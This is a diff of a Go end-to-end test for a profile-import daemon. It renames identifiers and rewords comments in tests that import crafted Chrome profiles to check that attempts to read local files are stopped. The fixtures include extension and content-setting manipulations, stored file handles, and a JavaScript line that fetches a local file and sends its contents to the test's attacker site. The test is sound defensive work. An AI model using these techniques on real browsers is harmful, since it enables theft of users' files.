@@ -21,16 +21,16 @@ import (
 	"github.com/stasisd/stasis/e2e/daemon"
 )
 
-// TestAttackProfiles: profiles that were made to read files without an address that
-// shows one. No wall but what Stasis takes out of a profile could stop them, so they
-// are tried without Landlock.
+// TestAttackProfiles imports profiles that are made to read files without an address
+// that shows it. Only what Stasis removes from a profile could stop them, so they are
+// tried without Landlock.
 func TestAttackProfiles(t *testing.T) {
 	t.Parallel()
 	d := daemon.Start(t, byOrdinaryUser(t, daemon.Options{Tags: []string{noLandlock, noBlocklist}, Unraced: true}))
-	l := plant(t)
+	l := makeWantedFiles(t)
 	for _, c := range []struct {
 		name string
-		take func(*thief)
+		take func(*fileAttacker)
 	}{
 		{"an extension whose folder has no name", byNamelessFolder},
 		{"an installation that was put off", byDelayedInstall},
@@ -41,7 +41,7 @@ func TestAttackProfiles(t *testing.T) {
 		{"such a file and an extension's content setting", byExtensionsContentSetting},
 	} {
 		t.Run(c.name, func(t *testing.T) {
-			x := newThief(t, d, l)
+			x := newFileAttacker(t, d, l)
 			x.engine = "chrome"
 			c.take(x)
 			x.watch()
@@ -51,7 +51,7 @@ func TestAttackProfiles(t *testing.T) {
 	}
 }
 
-// newExtension gives a manifest with a key, and the ID that follows from it.
+// newExtension returns a manifest with a key, and the ID that the key gives.
 func newExtension(t *testing.T) (id string, manifest obj) {
 	t.Helper()
 	key, err := rsa.GenerateKey(rand.Reader, 2048)
@@ -74,7 +74,7 @@ func newExtension(t *testing.T) (id string, manifest obj) {
 		"web_accessible_resources": []obj{{"resources": []string{"*"}, "matches": []string{"<all_urls>"}}}}
 }
 
-// preferencesWith is a profile's preferences with one extension.
+// preferencesWith returns a profile's preferences with one extension.
 func preferencesWith(t *testing.T, id string, entry obj) []byte {
 	t.Helper()
 	return asJSON(t, obj{"profile": obj{"exit_type": "Normal"},
@@ -90,14 +90,14 @@ func asJSON(t *testing.T, v any) []byte {
 	return raw
 }
 
-// byNamelessFolder imports an archive whose profile has an extension that nobody
-// uploaded, in the folder of the empty name: the profile's own Extensions.
-func byNamelessFolder(x *thief) {
+// byNamelessFolder imports an archive whose profile has an extension that was not
+// uploaded. Its folder has an empty name, which is the profile's own Extensions folder.
+func byNamelessFolder(x *fileAttacker) {
 	id, manifest := newExtension(x.t)
 	granted := obj{"api": []string{"tabs"}, "explicit_host": []string{"<all_urls>", "file:///*"}, "manifest_permissions": []string{}, "scriptable_host": []string{}}
 	entry := obj{"path": "", "location": 1, "state": 1, "manifest": manifest, "creation_flags": 5, "newAllowFileAccess": true,
 		"disable_reasons": []int{}, "active_permissions": granted, "granted_permissions": granted, "first_install_time": "13380000000000000"}
-	script := `fetch("` + x.loot[0].url() + `").then(r => r.text()).then(t => fetch("` + x.site.URL + `/?" + encodeURIComponent(t), {mode: "no-cors"}))`
+	script := `fetch("` + x.wanted[0].url() + `").then(r => r.text()).then(t => fetch("` + x.site.URL + `/?" + encodeURIComponent(t), {mode: "no-cors"}))`
 	var archive bytes.Buffer
 	w := tar.NewWriter(&archive)
 	for _, f := range []struct {
@@ -127,11 +127,11 @@ func byNamelessFolder(x *thief) {
 	x.eval(page, `document.body.append(Object.assign(document.createElement("iframe"), {src: "chrome-extension://`+id+`/page.html"}))`)
 }
 
-// byDelayedInstall imports a profile in which an uploaded extension waits for an
-// update, from the folder that has the file.
-func byDelayedInstall(x *thief) {
+// byDelayedInstall imports a profile in which an uploaded extension waits for an update
+// from the folder that has the file.
+func byDelayedInstall(x *fileAttacker) {
 	id, entry := x.uploaded()
-	later := obj{"path": filepath.Dir(x.loot[0].path), "location": 4, "state": 1, "manifest": entry["manifest"], "creation_flags": 5,
+	later := obj{"path": filepath.Dir(x.wanted[0].path), "location": 4, "state": 1, "manifest": entry["manifest"], "creation_flags": 5,
 		"delay_install_reason": 1, "install_time": "13380000000000000"}
 	entry["idle_install_info"] = later
 	a := imports(x.t, x.d, "datadir", zipFiles(x.t, map[string][]byte{
@@ -139,10 +139,10 @@ func byDelayedInstall(x *thief) {
 	x.enter(obj{"restore_from_environment_id": a.Snapshot.ID, "extensions": []string{id}})
 	page, _ := x.newPage("/")
 	x.step(page, "Page.navigate", obj{"url": "chrome-extension://" + id + "/page.html"})
-	daemon.Eventually(x.t, grace, "the extension's own page, or the file", func() bool {
-		x.eval(page, `fetch("/`+filepath.Base(x.loot[0].path)+`").then(r => r.text()).then(t => console.log(t), String)`)
-		x.step(page, "Page.navigate", obj{"url": "chrome-extension://" + id + "/" + filepath.Base(x.loot[0].path)})
-		if strings.Contains(x.eval(page, `document.documentElement.innerText`), x.loot[0].text) {
+	daemon.Eventually(x.t, grace, "the extension's page or the file is shown", func() bool {
+		x.eval(page, `fetch("/`+filepath.Base(x.wanted[0].path)+`").then(r => r.text()).then(t => console.log(t), String)`)
+		x.step(page, "Page.navigate", obj{"url": "chrome-extension://" + id + "/" + filepath.Base(x.wanted[0].path)})
+		if strings.Contains(x.eval(page, `document.documentElement.innerText`), x.wanted[0].text) {
 			return true
 		}
 		x.step(page, "Page.navigate", obj{"url": "chrome-extension://" + id + "/page.html"})
@@ -150,41 +150,41 @@ func byDelayedInstall(x *thief) {
 	})
 }
 
-// byFileHandle imports a profile whose page keeps a handle of the file, with settings
-// that let it read.
-func byFileHandle(x *thief) {
+// byFileHandle imports a profile whose page has stored a handle of the file, with
+// settings that let the page read it.
+func byFileHandle(x *fileAttacker) {
 	allow := obj{x.site.URL + ",*": obj{"setting": 1}}
-	chosen := obj{"chosen-objects": []obj{{"display-name": "x", "is-directory": false, "path": x.loot[0].path, "path-type": 0, "readable": true, "writable": true}}}
+	chosen := obj{"chosen-objects": []obj{{"display-name": "x", "is-directory": false, "path": x.wanted[0].path, "path-type": 0, "readable": true, "writable": true}}}
 	x.readHandle("", obj{"profile": obj{
 		"default_content_setting_values": obj{"file_system_read_guard": 1, "file_system_write_guard": 1},
 		"content_settings": obj{"exceptions": obj{"file_system_read_guard": allow, "file_system_write_guard": allow,
 			"file_system_access_extended_permission": allow, "file_system_access_chooser_data": obj{x.site.URL + "," + x.site.URL: obj{"setting": chosen}}}}}})
 }
 
-// byManagedSetting imports a profile with such a handle and what a policy of the
-// machine's administrator would have set.
-func byManagedSetting(x *thief) {
+// byManagedSetting imports a profile with such a handle, and with a content setting as
+// an administrator's policy sets it.
+func byManagedSetting(x *fileAttacker) {
 	x.readHandle("", obj{"profile": obj{"managed_default_content_settings": obj{"file_system_read_guard": 1, "file_system_write_guard": 1}}})
 }
 
-// byExtensionsPreference imports a profile with such a handle and an uploaded extension
-// that has set a preference which no extension may set.
-func byExtensionsPreference(x *thief) {
+// byExtensionsPreference imports a profile with such a handle, and with an uploaded
+// extension that has set a forbidden preference.
+func byExtensionsPreference(x *fileAttacker) {
 	id, entry := x.uploaded()
 	entry["preferences"] = obj{"profile.default_content_setting_values.file_system_read_guard": 1}
 	x.readHandle(id, obj{"extensions": obj{"ui": obj{"developer_mode": true}, "settings": obj{id: entry}}})
 }
 
-// byExtensionsContentSetting imports a profile with such a handle and an uploaded
-// extension that has set a content setting which no extension may set.
-func byExtensionsContentSetting(x *thief) {
+// byExtensionsContentSetting imports a profile with such a handle, and with an uploaded
+// extension that has set a forbidden content setting.
+func byExtensionsContentSetting(x *fileAttacker) {
 	id, entry := x.uploaded()
 	entry["content_settings"] = []obj{{"primaryPattern": "*", "secondaryPattern": "*", "type": "file-system-read-guard", "setting": "allow"}}
 	x.readHandle(id, obj{"extensions": obj{"ui": obj{"developer_mode": true}, "settings": obj{id: entry}}})
 }
 
-// uploaded uploads an extension, and gives its entry in the preferences of a profile.
-func (x *thief) uploaded() (id string, entry obj) {
+// uploaded uploads an extension and returns its entry in a profile's preferences.
+func (x *fileAttacker) uploaded() (id string, entry obj) {
 	x.t.Helper()
 	id, manifest := newExtension(x.t)
 	packed := zipFiles(x.t, map[string][]byte{"manifest.json": asJSON(x.t, manifest), "page.html": []byte(`<title>own</title>`)})
@@ -193,9 +193,9 @@ func (x *thief) uploaded() (id string, entry obj) {
 		"first_install_time": "13380000000000000"}
 }
 
-// readHandle imports a profile whose page keeps a handle of the file, changed by these
+// readHandle imports a profile whose page has stored a handle of the file, with changed
 // preferences, and reads the file.
-func (x *thief) readHandle(extension string, change obj) {
+func (x *fileAttacker) readHandle(extension string, change obj) {
 	dir := profileOf(x.t, func(w *wire, page string) {
 		w.open(page, x.site.URL+"/")
 		w.eval(page, `document.ondragover = e => e.preventDefault();
@@ -205,24 +205,24 @@ func (x *thief) readHandle(extension string, change obj) {
 				await new Promise(ok => { const t = d.transaction("s", "readwrite"); t.objectStore("s").put(h, "h"); t.oncomplete = ok }); return h.name })() }; 1`)
 		for _, kind := range []string{"dragEnter", "dragOver", "drop"} {
 			w.call(page, "Input.dispatchDragEvent", obj{"type": kind, "x": 50, "y": 50,
-				"data": obj{"items": []obj{}, "files": []string{x.loot[0].path}, "dragOperationsMask": 1}}, nil)
+				"data": obj{"items": []obj{}, "files": []string{x.wanted[0].path}, "dragOperationsMask": 1}}, nil)
 		}
-		daemon.Eventually(x.t, grace, "the handle is kept", func() bool { return w.eval(page, `window.kept`) == filepath.Base(x.loot[0].path) })
+		daemon.Eventually(x.t, grace, "the page has stored the handle", func() bool { return w.eval(page, `window.kept`) == filepath.Base(x.wanted[0].path) })
 	})
 	page := x.enterWith(dir, extension, change)
 	if got := x.eval(page, `(async () => {
 		const d = await new Promise((ok, no) => { const r = indexedDB.open("d", 1); r.onsuccess = () => ok(r.result); r.onerror = () => no(r.error) });
 		window.handle = await new Promise((ok, no) => { const r = d.transaction("s").objectStore("s").get("h"); r.onsuccess = () => ok(r.result); r.onerror = () => no(r.error) });
-		return handle.name })()`); got != filepath.Base(x.loot[0].path) {
-		x.t.Errorf("the handle did not come back: %s", got)
+		return handle.name })()`); got != filepath.Base(x.wanted[0].path) {
+		x.t.Errorf("the handle was not restored: %s", got)
 	}
 	x.eval(page, `handle.getFile().then(f => f.text()).then(t => console.log(t), String)`)
 	x.eval(page, `handle.getFile().then(f => f.text())`)
 }
 
-// enterWith imports a profile, changed by these preferences, and begins a session on it
-// with an extension, or none. It gives a page of the thief's site.
-func (x *thief) enterWith(dir, extension string, change obj) (page string) {
+// enterWith imports a profile with changed preferences and creates a session from it,
+// with an extension or ("") none. It returns a page of the attacker's site.
+func (x *fileAttacker) enterWith(dir, extension string, change obj) (page string) {
 	x.t.Helper()
 	file := filepath.Join(dir, "Default", "Preferences")
 	raw, err := os.ReadFile(file)
@@ -254,7 +254,7 @@ func (x *thief) enterWith(dir, extension string, change obj) (page string) {
 	return page
 }
 
-// zipFiles packs files by name.
+// zipFiles makes a zip of files by their names.
 func zipFiles(t *testing.T, files map[string][]byte) []byte {
 	t.Helper()
 	var packed bytes.Buffer
